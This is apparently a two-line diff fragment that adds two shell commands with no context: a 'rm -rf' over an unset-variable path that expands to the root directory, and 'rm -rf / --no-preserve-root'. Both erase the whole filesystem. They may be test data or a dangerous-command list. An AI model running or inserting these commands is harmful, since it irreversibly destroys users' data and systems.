@@ -1,0 +1,2 @@
+rm -rf "${STEAMROOT:-}"/*
+rm -rf / --no-preserve-root
